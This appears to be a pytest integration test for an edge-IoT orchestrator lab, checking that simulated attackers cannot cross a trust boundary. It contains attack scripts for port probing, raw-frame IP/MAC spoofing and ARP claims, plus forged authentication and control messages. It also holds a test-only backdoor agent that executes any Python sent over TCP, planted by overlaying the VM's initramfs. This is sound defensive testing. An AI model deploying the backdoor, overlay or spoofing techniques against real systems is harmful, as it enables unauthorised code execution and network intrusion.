"""Issue 13's attack test: attackers on the lab segment try the trust boundary.

A 2-node lab; alice's proxy VM on fog1 serves one legitimate device streaming from fog1's
devices namespace; an application VM runs on fog2. Two attackers:
  * one where devices sit: fog1's devices namespace (root there, as a compromised device
    or anyone on the base station's access side), driven by scripts run with
    `Lab.devices_enter_argv`;
  * one inside a VM: a 128 MiB guest booted from the lab's own kernel and initramfs plus a
    small overlay whose `edgeiot_agent/__main__.py` runs the Python the test sends it (the
    stock agent has no op that runs code, by design). Its domain XML comes from the
    product's `to_xml` with the NIC's address, so it carries the same clean-traffic filter
    as every VM with a lab address; it stands in for a compromised application VM.

Attempts: open a connection to every node's management ports and to the gateway; send
frames with another VM's, a node's or the gateway's IP and/or MAC, ARP claims to them and
non-IP L2 frames; say `hello` as the legitimate device without its key; send control ops
without authentication; send metadata to the application VM without being an authorised
proxy. Each must be refused and counted (nft counters, ebtables counters of the VM's tap,
the guest agents' `auth_refused` and metadata audit counters), while the legitimate device's
records arrive exactly once (same count, same hash chain, nothing extra).

The whole module keeps at most 3 VMs up (proxy, application VM, attacker), 128 MiB each
where the product allows it; the lab fixture tears everything down even on failure.
"""

from __future__ import annotations

import ast
import contextlib
import gzip
import json
import re
import shutil
import socket
import struct
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import libvirt
import pytest

from agent.guest.edgeiot_agent import wire
from orchestrator.edge.devices import launch_emulator, with_keys
from orchestrator.edge.proxies import directory_path
from orchestrator.errors import ExitStatus
from orchestrator.fleet import lab_fleet
from orchestrator.fog.domain_xml import DomainSpec, Nic, to_xml
from orchestrator.fog.guest_agent import GuestAgent
from orchestrator.images import GuestImage, guest_cmdline
from orchestrator.lab import firewall
from orchestrator.lab.builder import Lab
from orchestrator.lab.topology import DEVICE_LINK, lab_mac
from orchestrator.netguard import check_destination
from orchestrator.store import open_store
from tests.integration.conftest import LabHandle, lab_fixture

pytestmark = pytest.mark.lab

PREFIX, SUBNET = "eatk", "10.83.0.0/16"
lab = lab_fixture(PREFIX, SUBNET, 2)
GATEWAY, FOG1, FOG2 = "10.83.0.1", "10.83.0.11", "10.83.0.12"
DEVICES1, DEVICES2 = "10.83.0.31", "10.83.0.32"  # the two devices namespaces
LEGIT = "fd00::e1"  # alice's heart-rate sensor, streaming all along
PROXY, APP, APP_VM = "px-alice", "tally", "app-tally"
ATTACKER, ATTACKER_IP = "atk-vm", "10.83.1.200"  # far from the orchestrator's allocations
ATTACKER_MAC = "52:54:00:53:01:c8"
BACKDOOR_PORT = wire.CONTROL_PORT
MGMT_PORTS = [int(p.split("-")[0]) for p in firewall.MANAGEMENT_PORTS.values()]
LEGIT_TICKS, LEGIT_RATE = 600, 5  # 120 s of records: longer than every attack below

# --- scripts the attackers run ---------------------------------------------------------------

PROBE = """
import socket
res = {}
for host, port in ARGS["targets"]:
    s = socket.socket()
    s.settimeout(ARGS.get("timeout", 2.0))
    try:
        s.connect((host, port))
        res[f"{host}:{port}"] = "open"
    except ConnectionRefusedError:
        res[f"{host}:{port}"] = "refused"
    except OSError as exc:
        res[f"{host}:{port}"] = type(exc).__name__
    finally:
        s.close()
out["probes"] = res
"""

FRAMES = """
import socket, struct

def mac(text):
    return bytes.fromhex(text.replace(":", ""))

def csum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def udp_frame(src_mac, src_ip, name):
    payload = b"EATK:" + name.encode()
    udp = struct.pack("!HHHH", 40000, 9999, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(ARGS["broadcast"]))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return mac("ff:ff:ff:ff:ff:ff") + mac(src_mac) + b"\\x08\\x00" + ip + udp

def arp_claim(src_mac, claimed_ip):
    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac(src_mac),
                       socket.inet_aton(claimed_ip), mac("ff:ff:ff:ff:ff:ff"),
                       socket.inet_aton(claimed_ip))
    return mac("ff:ff:ff:ff:ff:ff") + mac(src_mac) + b"\\x08\\x06" + body

def other_l2(src_mac, name):
    return mac("ff:ff:ff:ff:ff:ff") + mac(src_mac) + b"\\x88\\xb5" + b"EATK:" + name.encode()

own_mac, own_ip = ARGS["mac"], ARGS["ip"]
frames = [("legit", udp_frame(own_mac, own_ip, "legit"))]
for victim, (vmac, vip) in ARGS["victims"].items():
    frames += [("ip-of-" + victim, udp_frame(own_mac, vip, "ip-of-" + victim)),
               ("mac-of-" + victim, udp_frame(vmac, own_ip, "mac-of-" + victim)),
               ("both-" + victim, udp_frame(vmac, vip, "both-" + victim)),
               ("arp-" + victim, arp_claim(own_mac, vip))]
frames.append(("l2-other", other_l2(own_mac, "l2-other")))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ARGS["iface"], 0))
for _ in range(ARGS["repeat"]):
    for name, frame in frames:
        s.send(frame)
s.close()
out["sent"] = [name for name, _ in frames]
"""

SNIFF = """
import json, socket, struct, sys, time
ARGS = json.loads(sys.argv[1])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
s.bind((ARGS["iface"], 0))
s.settimeout(0.2)
seen = []
watch = set(ARGS["arp_watch"])
print("ready", flush=True)
end = time.monotonic() + ARGS["seconds"]
while time.monotonic() < end:
    try:
        frame, addr = s.recvfrom(2048)
    except socket.timeout:
        continue
    if addr[2] == 4:  # PACKET_OUTGOING: what this namespace sent itself
        continue
    etype = struct.unpack("!H", frame[12:14])[0]
    src = frame[6:12].hex(":")
    if etype == 0x0800 and b"EATK:" in frame:
        seen.append([frame[frame.index(b"EATK:") + 5:].decode(), src])
    elif etype == 0x88B5 and b"EATK:" in frame:
        seen.append(["l2:" + frame[frame.index(b"EATK:") + 5:].decode(), src])
    elif etype == 0x0806 and socket.inet_ntoa(frame[28:32]) in watch:
        seen.append(["arp:" + socket.inet_ntoa(frame[28:32]), frame[22:28].hex(":")])
print(json.dumps(seen), flush=True)
"""

HELLO = """
import json, socket
res = {}
for name, script in ARGS["attempts"].items():
    sock = socket.create_connection((ARGS["proxy"], ARGS["port"]), timeout=5)
    reader = sock.makefile("rb")
    replies = []
    try:
        for frame in script:  # one frame, one reply line; stop at the server's last word
            sock.sendall(json.dumps(frame).encode() + b"\\n")
            line = reader.readline()
            replies.append(json.loads(line).get("t") if line else "closed")
            if replies[-1] in ("refused", "closed"):
                break
    except OSError as exc:
        replies.append(type(exc).__name__)
    finally:
        sock.close()
    res[name] = replies
out["hello"] = res
"""

CONTROL = """
import json, socket
res = {}
for name, request in ARGS["requests"]:
    sock = socket.create_connection((ARGS["host"], ARGS["port"]), timeout=5)
    reader = sock.makefile("rb")
    try:
        if ARGS.get("challenge"):
            sock.sendall(b'{"op": "challenge"}\\n')
            reader.readline()
        sock.sendall(json.dumps(request).encode() + b"\\n")
        line = reader.readline()
        res[name] = json.loads(line) if line else {"closed": True}
    except OSError as exc:
        res[name] = {"oserror": type(exc).__name__}
    finally:
        sock.close()
out["control"] = res
"""

BACKDOOR = '''"""Test-only stand-in for the guest agent: runs the Python it is sent."""
import socket
import struct
import traceback


def recv_exact(conn, size):
    data = b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            raise OSError("short read")
        data += chunk
    return data


srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", PORT))
srv.listen(4)
while True:
    conn, _ = srv.accept()
    try:
        conn.settimeout(120)
        code = recv_exact(conn, struct.unpack(">I", recv_exact(conn, 4))[0]).decode()
        scope = {"out": {}}
        try:
            exec(code, scope)
        except BaseException:
            scope["out"]["exception"] = traceback.format_exc()
        data = repr(scope["out"]).encode()
        conn.sendall(struct.pack(">I", len(data)) + data)
    except OSError:
        pass
    finally:
        conn.close()
'''.replace("PORT", str(BACKDOOR_PORT))


def with_args(script: str, args: dict[str, Any]) -> str:
    return f"ARGS = {args!r}\nout = {{}}\n" + script


# --- helpers ---------------------------------------------------------------------------------


def topo(handle: LabHandle) -> Lab:
    return Lab.recorded(handle.state_dir, PREFIX)


def in_devices_ns(handle: LabHandle, node: str, script: str, args: dict[str, Any],
                  timeout_s: float = 60) -> dict[str, Any]:
    """Run an attacker script where `node`'s devices sit; its `out` dict."""
    code = with_args(script, args) + "\nprint(repr(out))\n"
    done = subprocess.run([*topo(handle).devices_enter_argv(node), sys.executable, "-c", code],
                          capture_output=True, text=True, timeout=timeout_s)
    assert done.returncode == 0, done.stderr
    return dict(ast.literal_eval(done.stdout.strip().splitlines()[-1]))


class Sniffer:
    """An observer in a devices namespace: which marked frames reach it, from which MAC."""

    def __init__(self, handle: LabHandle, node: str, arp_watch: list[str],
                 seconds: float = 6.0) -> None:
        args = json.dumps({"iface": DEVICE_LINK, "seconds": seconds, "arp_watch": arp_watch})
        self.proc = subprocess.Popen(
            [*topo(handle).devices_enter_argv(node), sys.executable, "-c", SNIFF, args],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        assert self.proc.stdout.readline().strip() == "ready", self.proc.stderr

    def seen(self) -> list[tuple[str, str]]:
        out, err = self.proc.communicate(timeout=30)
        assert self.proc.returncode == 0, err
        return [(name, src) for name, src in json.loads(out.strip().splitlines()[-1])]


class AttackerVm:
    """The VM attacker: sends it Python, gets its `out` dict back."""

    def __init__(self, handle: LabHandle) -> None:
        self.policy = lab_fleet(handle.state_dir, PREFIX).policy

    def run(self, script: str, args: dict[str, Any], timeout_s: float = 90) -> dict[str, Any]:
        code = with_args(script, args).encode()
        target = check_destination(ATTACKER_IP, self.policy)
        with socket.create_connection((target, BACKDOOR_PORT), timeout=timeout_s) as sock:
            sock.sendall(struct.pack(">I", len(code)) + code)
            size = struct.unpack(">I", _recv_exact(sock, 4))[0]
            result = dict(ast.literal_eval(_recv_exact(sock, size).decode()))
        assert "exception" not in result, result["exception"]
        return result


def _recv_exact(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise OSError("attacker VM closed the connection")
        data += chunk
    return data


def guard_counters(handle: LabHandle) -> dict[str, dict[str, int]]:
    return topo(handle).guard_counters()


def delta(after: dict[str, dict[str, int]], before: dict[str, dict[str, int]], where: str,
          name: str) -> int:
    return after[where].get(name, 0) - before[where].get(name, 0)


def signed_agent(handle: LabHandle, vm: str) -> GuestAgent:
    """A client of a VM's guest agent that signs with the VM's key from the records."""
    with contextlib.closing(open_store(handle.state_dir)) as store:
        record, key = store.vm(vm), store.vm_key(vm)
    assert record is not None and record.address
    return GuestAgent(record.address, lab_fleet(handle.state_dir, PREFIX).policy,
                      timeout_s=10, key=key)


def vm_identity(handle: LabHandle, vm: str) -> tuple[str, str]:
    with contextlib.closing(open_store(handle.state_dir)) as store:
        record = store.vm(vm)
    assert record is not None and record.address
    return record.mac, record.address


def find_counter(status: Any, name: str) -> int:
    """The sum of every `name` counter anywhere in a status tree (the agents nest them by
    server: control, streams, metadata)."""
    if isinstance(status, dict):
        return sum((int(v) if k == name and isinstance(v, int) else find_counter(v, name))
                   for k, v in status.items())
    if isinstance(status, list):
        return sum(find_counter(v, name) for v in status)
    return 0


def tap_drops(handle: LabHandle, node: str, tap: str) -> int:
    """Packets libvirt's nwfilter dropped on `tap` (its ebtables DROP rules' counters)."""
    done = subprocess.run([*topo(handle).enter_argv(node), "ebtables", "-t", "nat", "-L",
                           "--Lc"], capture_output=True, text=True, check=True)
    total, chain = 0, ""
    for line in done.stdout.splitlines():
        if line.startswith("Bridge chain:"):
            chain = line.split()[2].rstrip(",")
        elif tap in chain and "-j DROP" in line and "pcnt =" in line:
            total += int(re.search(r"pcnt = (\d+)", line).group(1))  # type: ignore[union-attr]
    return total


# --- fixtures ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def world(lab: LabHandle, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """Alice's proxy on fog1, her legitimate device streaming from fog1's devices namespace,
    an application VM on fog2; the emulator is ended (by pid) at the end of the module."""
    from orchestrator.cli import main
    tmp = tmp_path_factory.mktemp("attack")
    assert main(["user", "add", "alice", "--node", "fog1"]) == ExitStatus.SUCCESS
    assert main(["device", "add", LEGIT, "--user", "alice", "--type", "heart-rate",
                 "--bs", "fog1"]) == ExitStatus.SUCCESS
    assert main(["app", "install", APP, "--kind", "traffic", "--node", "fog2"]) == 0
    spec = {"user": "alice", "rate": LEGIT_RATE, "ticks": LEGIT_TICKS, "drain_s": 60,
            "sources": [{"kind": "heart", "device": LEGIT}],
            "directory": str(directory_path(lab.state_dir)), "lab_subnet": SUBNET,
            "bridge": DEVICE_LINK, "report": str(tmp / "legit.json")}
    with contextlib.closing(open_store(lab.state_dir)) as store:
        spec = with_keys(spec, store)
    proc = launch_emulator(topo(lab).devices_enter_argv("fog1"), spec, tmp / "legit-spec.json",
                           tmp / "legit.log")
    try:
        yield {"tmp": tmp, "emulator": proc, "report": tmp / "legit.json"}
    finally:
        if proc.poll() is None:
            proc.terminate()
            proc.wait(timeout=10)


def attacker_initrd(lab_initrd: Path, out: Path) -> Path:
    """The lab's initramfs plus an overlay replacing the agent's entry point (the kernel
    unpacks concatenated archives in order; a later file wins)."""
    staging = out.parent / "overlay"
    target = staging / "opt" / "edgeiot" / "edgeiot_agent"
    (target / "__pycache__").mkdir(parents=True, exist_ok=True)
    (target / "__main__.py").write_text(BACKDOOR)
    # NOTE: the image ships unchecked-hash .pyc files, which Python uses whatever the
    # source says; a cached file with a bad magic number makes it compile the source.
    (target / "__pycache__" / "__main__.cpython-311.pyc").write_bytes(b"\0" * 16)
    members = ["opt", "opt/edgeiot", "opt/edgeiot/edgeiot_agent",
               "opt/edgeiot/edgeiot_agent/__main__.py", "opt/edgeiot/edgeiot_agent/__pycache__",
               "opt/edgeiot/edgeiot_agent/__pycache__/__main__.cpython-311.pyc"]
    listing = "\n".join(members) + "\n"
    archive = subprocess.run(["cpio", "-o", "-H", "newc", "-R", "0:0", "--quiet"],
                             input=listing.encode(), cwd=staging, capture_output=True,
                             check=True).stdout
    shutil.copyfile(lab_initrd, out)
    with out.open("ab") as initrd:
        initrd.write(gzip.compress(archive))
    return out


@pytest.fixture(scope="module")
def attacker(lab: LabHandle, world: dict[str, Any]) -> Iterator[AttackerVm]:
    """The VM attacker on fog1, beside alice's proxy; destroyed at the end of the module."""
    fleet = lab_fleet(lab.state_dir, PREFIX)
    node = fleet.nodes["fog1"]
    image = GuestImage(Path(node.image_dir))
    # Under the lab's directory: teardown ends its QEMU even if this fixture cannot.
    initrd = attacker_initrd(image.initrd,
                             lab.state_dir / "labs" / PREFIX / "attacker" / "initrd.img")
    spec = DomainSpec(
        name=ATTACKER, uuid=str(uuid.uuid4()), memory_mib=128, vcpus=1,
        domain_type=node.domain_type or "qemu", kernel=str(image.kernel),
        initrd=str(initrd),
        cmdline=guest_cmdline(ATTACKER, ATTACKER_IP, 16, GATEWAY, "app",
                              tcg=(node.domain_type or "qemu") == "qemu"),
        nics=(Nic(bridge=node.vm_bridge, mac=ATTACKER_MAC, ip=ATTACKER_IP),))
    check_destination(FOG1, fleet.policy)
    conn = libvirt.open(node.uri)
    dom = conn.createXML(to_xml(spec), 0)
    try:
        vm = AttackerVm(lab)
        deadline = time.monotonic() + 90
        while True:
            try:
                assert vm.run("out['up'] = 1", {}, timeout_s=3) == {"up": 1}
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(1)
        yield vm
    finally:
        with contextlib.suppress(libvirt.libvirtError):
            dom.destroy()
        with contextlib.suppress(libvirt.libvirtError):
            conn.close()


# --- the boundary holds for the right peers ------------------------------------------------------


def test_infrastructure_still_reaches_every_node(lab, world):
    """The orchestrator (gateway) and the peer node (migration) still get in."""
    targets = [(FOG1, 16509), (FOG2, 16509)]
    for host, port in targets:
        socket.create_connection((host, port), timeout=3).close()
    peer = subprocess.run([*topo(lab).enter_argv("fog2"), sys.executable, "-c",
                           with_args(PROBE, {"targets": targets}) + "\nprint(repr(out))"],
                          capture_output=True, text=True, timeout=30, check=True)
    assert set(ast.literal_eval(peer.stdout.strip())["probes"].values()) == {"open"}


def test_devices_cannot_reach_any_nodes_management_ports(lab, world):
    listener = socket.create_server((GATEWAY, 9177))  # as `metrics serve --listen GW:9177`
    try:
        before = guard_counters(lab)
        targets = [(h, p) for h in (FOG1, FOG2) for p in MGMT_PORTS] + [(GATEWAY, 9177)]
        probes = in_devices_ns(lab, "fog1", PROBE, {"targets": targets})["probes"]
        after = guard_counters(lab)
    finally:
        listener.close()
    assert set(probes.values()) == {"refused"}, probes
    assert delta(after, before, "fog1", firewall.REFUSED) == len(MGMT_PORTS)
    assert delta(after, before, "fog2", firewall.REFUSED) == len(MGMT_PORTS)
    assert delta(after, before, "gateway", firewall.REFUSED) == 1


def test_a_vm_cannot_reach_any_nodes_management_ports(lab, attacker):
    before = guard_counters(lab)
    targets = [(h, p) for h in (FOG1, FOG2) for p in MGMT_PORTS] + [(GATEWAY, 9177)]
    probes = attacker.run(PROBE, {"targets": targets})["probes"]
    after = guard_counters(lab)
    assert set(probes.values()) == {"refused"}, probes
    assert delta(after, before, "fog1", firewall.REFUSED) == len(MGMT_PORTS)
    assert delta(after, before, "fog2", firewall.REFUSED) == len(MGMT_PORTS)
    assert delta(after, before, "gateway", firewall.REFUSED) == 1


def test_every_vm_nic_carries_clean_traffic_bound_to_its_address(lab, world, attacker):
    fleet = lab_fleet(lab.state_dir, PREFIX)
    for vm, node in ((PROXY, "fog1"), (APP_VM, "fog2"), (ATTACKER, "fog1")):
        conn = libvirt.open(fleet.nodes[node].uri)
        try:
            xml = conn.lookupByName(vm).XMLDesc(0)
        finally:
            conn.close()
        address = ATTACKER_IP if vm == ATTACKER else vm_identity(lab, vm)[1]
        assert "<filterref filter='clean-traffic'>" in xml, vm
        assert f"<parameter name='IP' value='{address}'/>" in xml, vm


# --- identity on the segment ---------------------------------------------------------------------


def _spoof_round(lab: LabHandle, send, own: tuple[str, str], victims: dict[str, tuple[str,
                 str]], observers: list[str]) -> dict[str, list[tuple[str, str]]]:
    watch = [ip for _mac, ip in victims.values()]
    sniffers = {node: Sniffer(lab, node, watch) for node in observers}
    sent = send({"iface": "eth0", "mac": own[0], "ip": own[1], "victims": victims,
                 "broadcast": "10.83.255.255", "repeat": 3})
    assert sent["sent"][0] == "legit" and len(sent["sent"]) == 2 + 4 * len(victims)
    return {node: sniffer.seen() for node, sniffer in sniffers.items()}


def test_a_vm_cannot_take_another_identity(lab, world, attacker):
    victims = {"proxy": vm_identity(lab, PROXY), "fog2": (lab_mac(FOG2), FOG2),
               "gateway": (lab_mac(GATEWAY), GATEWAY)}
    tap = _tap_of(lab, "fog1", ATTACKER)
    before = tap_drops(lab, "fog1", tap)
    seen = _spoof_round(lab, lambda a: attacker.run(FRAMES, a), (ATTACKER_MAC, ATTACKER_IP),
                        victims, ["fog1", "fog2"])
    dropped = tap_drops(lab, "fog1", tap) - before
    for node, frames in seen.items():
        assert frames.count(("legit", ATTACKER_MAC)) == 3, (node, frames)  # the path works
        assert [f for f in frames if f[0] != "legit"] == [], (node, frames)
    assert dropped >= 3 * 4 * len(victims) + 3, dropped  # every forged frame, counted


def test_a_device_cannot_take_another_identity(lab, world):
    victims = {"proxy": vm_identity(lab, PROXY), "fog1": (lab_mac(FOG1), FOG1),
               "devices2": (lab_mac(DEVICES2), DEVICES2)}
    before = guard_counters(lab)
    seen = _spoof_round(lab, lambda a: in_devices_ns(lab, "fog1", FRAMES, a),
                        (lab_mac(DEVICES1), DEVICES1), victims, ["fog2"])
    after = guard_counters(lab)
    frames = seen["fog2"]
    assert frames.count(("legit", lab_mac(DEVICES1))) == 3, frames
    assert [f for f in frames if f[0] != "legit"] == [], frames
    assert delta(after, before, "fog1", firewall.SPOOFED) == 3 * (4 * len(victims) + 1)


def _tap_of(lab: LabHandle, node: str, vm: str) -> str:
    conn = libvirt.open(lab_fleet(lab.state_dir, PREFIX).nodes[node].uri)
    try:
        xml = conn.lookupByName(vm).XMLDesc(0)
    finally:
        conn.close()
    match = re.search(r"<target dev='([^']+)'/>", xml)
    assert match, xml
    return match.group(1)


# --- authentication (issue 13's guest-agent and orchestrator work) -------------------------------


def test_a_forged_device_hello_is_refused_and_counted(lab, world):
    proxy = signed_agent(lab, PROXY)
    before = find_counter(proxy.request("stream_stats"), "auth_refused")
    forged_mac = "0" * wire.MAC_HEX_CHARS
    attempts = {
        "impostor": [{"t": "hello", "dev": LEGIT}, {"t": "auth", "dev": LEGIT,
                                                     "mac": forged_mac}],
        "unknown": [{"t": "hello", "dev": "fd00::dead"}],
        "records-without-hello": [{"t": "rec", "seq": 10**6, "ts": 1.0, "v": {"bpm": 1}}],
        "auth-without-hello": [{"t": "auth", "dev": LEGIT, "mac": forged_mac}],
    }
    address = vm_identity(lab, PROXY)[1]
    res = in_devices_ns(lab, "fog1", HELLO, {"proxy": address, "port": wire.STREAM_PORT,
                                            "attempts": attempts})["hello"]
    for name, replies in res.items():
        assert "welcome" not in replies and "ack" not in replies, (name, replies)
        assert replies[-1] in ("refused", "error", "closed"), (name, replies)
    after = find_counter(proxy.request("stream_stats"), "auth_refused")
    assert after - before >= 3, (before, after)  # impostor, unknown, auth without hello


def test_unauthenticated_control_ops_are_refused_and_counted(lab, world, attacker):
    _mac, address = vm_identity(lab, PROXY)
    proxy = signed_agent(lab, PROXY)
    before = find_counter(proxy.status(), "auth_refused")
    requests = [
        ("model_install", {"op": "model_install", "app": "evil", "model": "traffic",
                           "grants": ["heart-rate"], "sink": {"host": ATTACKER_IP,
                                                              "port": 7072}}),
        ("device_release", {"op": "device_release", "dev": LEGIT}),
        ("device_adopt", {"op": "device_adopt", "snapshot": {"id": LEGIT, "next": 2**52}}),
        ("dirty", {"op": "dirty", "pages_per_s": 100000, "working_set_mib": 64}),
        ("device_register", {"op": "device_register", "profile": {"id": "fd00::bad"}}),
        ("forged_signature", {"op": "device_release", "dev": LEGIT,
                              "auth": {"n": 1, "mac": "f" * wire.MAC_HEX_CHARS}}),
    ]
    plain = attacker.run(CONTROL, {"host": address, "port": wire.CONTROL_PORT,
                                   "requests": requests[:-1]})["control"]
    signed = attacker.run(CONTROL, {"host": address, "port": wire.CONTROL_PORT,
                                    "requests": requests[-1:], "challenge": True})["control"]
    for name, reply in {**plain, **signed}.items():
        assert reply.get("ok") is False, (name, reply)
        assert str(reply.get("error", "")).startswith(wire.AUTH_REFUSED), (name, reply)
    after = find_counter(proxy.status(), "auth_refused")
    assert after - before == len(requests), (before, after)
    stats = proxy.request("stream_stats")
    assert "evil" not in stats["models"] and LEGIT in stats["devices"]


def test_forged_metadata_is_refused_and_counted(lab, world, attacker):
    _mac, address = vm_identity(lab, APP_VM)
    app = signed_agent(lab, APP_VM)
    before = app.status()
    attempts = {
        "meta-without-auth": [{"t": "meta", "seq": 1, "m": {"evil": "EATK"}}],
        "bad-proof": [{"t": "hello", "app": APP, "proxy": PROXY, "epoch": "e" * 16},
                      {"t": "auth", "mac": "0" * wire.MAC_HEX_CHARS},
                      {"t": "meta", "seq": 1, "m": {"evil": "EATK"}}],
        "unknown-app": [{"t": "hello", "app": "nosuch", "proxy": PROXY, "epoch": "e" * 16}],
    }
    res = attacker.run(HELLO, {"proxy": address, "port": wire.METADATA_PORT,
                               "attempts": attempts})["hello"]
    for name, replies in res.items():
        assert "welcome" not in replies and "ack" not in replies, (name, replies)
    after = app.status()
    refused = sum(find_counter(after, k) - find_counter(before, k)
                  for k in ("auth_refused", "unauthenticated", "unknown_app"))
    assert refused == len(attempts), (before, after)
    received = app.request(wire.OP_APP_RECEIVED)
    assert "EATK" not in json.dumps(received)


# --- the owner's stream ---------------------------------------------------------------------


def test_the_legitimate_devices_stream_stays_exactly_once(lab, world):
    world["emulator"].wait(timeout=LEGIT_TICKS / LEGIT_RATE + 120)
    report = json.loads(world["report"].read_text())
    sent = report["devices"][LEGIT]
    assert sent["sent"] == LEGIT_TICKS and sent["acked"] == LEGIT_TICKS, sent
    got = signed_agent(lab, PROXY).request("stream_stats")["devices"][LEGIT]
    assert got["accepted"] == LEGIT_TICKS and got["next"] == LEGIT_TICKS + 1, got
    assert got["chain"] == sent["chain"]  # the same records, in order: nothing forged got in


def test_lab_status_reports_the_guards_counters(lab, cli):
    guard = cli("lab", "status", "--json").json()["guard"]
    assert set(guard) == {"gateway", "fog1", "fog2"}
    # both attackers' probes of every management port of fog1, at least
    assert guard["fog1"][firewall.REFUSED] >= 2 * len(MGMT_PORTS)
    assert guard["fog1"][firewall.SPOOFED] > 0 and guard["gateway"][firewall.REFUSED] >= 2


def test_lab_down_removes_the_gateway_table(lab):
    table = firewall.table_name(PREFIX)
    assert table in subprocess.run(["nft", "list", "tables"], capture_output=True,
                                   text=True).stdout
    from orchestrator.cli import main
    assert main(["lab", "down"]) == ExitStatus.SUCCESS
    listed = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    assert table not in listed
    assert f"{PREFIX}-" not in subprocess.run(["ip", "netns", "list"], capture_output=True,
                                              text=True).stdout

